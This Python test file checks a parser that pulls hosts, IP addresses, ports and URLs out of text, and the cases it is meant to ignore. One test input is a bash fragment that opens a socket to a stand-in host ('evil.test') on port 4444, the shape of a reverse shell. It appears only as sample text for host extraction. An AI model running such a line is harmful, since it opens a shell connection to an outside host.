import pytest

from whence.model.named_hosts import names_in_text


def told(text: str, *, whole: bool = False) -> list[str]:
    return [f"{name.what} {name.text}" for name in names_in_text(text, whole=whole)]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        (
            "see https://API.vendor.io:8443/v1?a=1.",
            ["url https://API.vendor.io:8443/v1?a=1", "host api.vendor.io", "port 8443"],
        ),
        ("udp://[2001:db8::5]:5/", ["url udp://[2001:db8::5]:5/", "address 2001:db8::5", "port 5"]),
        ("firsthttps://doc.example.org/", ["url https://doc.example.org/", "host doc.example.org"]),
        ("http://proxy:3128", ["url http://proxy:3128", "host proxy", "port 3128"]),
        ("exec 3<>/dev/tcp/evil.test/4444", ["host evil.test", "port 4444"]),
        ("to 192.0.2.7:514 and 192.0.2.8", ["address 192.0.2.7", "port 514", "address 192.0.2.8"]),
        ("call files.example.org now", ["host files.example.org"]),
        ("https://user:word@host.example.org/", [
            "url https://user:word@host.example.org/", "host host.example.org"]),
    ],
)  # fmt: skip
def test_what_a_text_names(text: str, named: list[str]) -> None:
    assert told(text) == named


@pytest.mark.parametrize(
    "text",
    ["api.vendor.io", "files.vendor.com", "a.office.local", "10.1.2.3", "2001:db8::7"],
)
def test_a_string_that_is_a_name_as_a_whole(text: str) -> None:
    (name,) = names_in_text(text, whole=True)
    assert (name.text, name.sure) == (text, "certain")


@pytest.mark.parametrize(
    "text",
    [
        "os.path", "setup.py", "README.md", "libc.so.6", "self.id", "org.freedesktop.DBus",
        "java.io", "file:///etc/passwd", "255.255.255.0", "0.0.0.0", "std::vec", "version 1.2.3",
        "https://%s/{host}", "a.b", "", "....", "://", "http://", "1.2.3.4.5", "x" * 70 + ".com",
        "12:30:45", "foo.bar()", "999.1.2.3", "name@",
    ],
)  # fmt: skip
def test_what_is_no_name(text: str) -> None:
    assert not told(text)
    if text not in ("self.id", "java.io"):  # ends of domains, too: as a whole they may be names
        assert not told(text, whole=True)
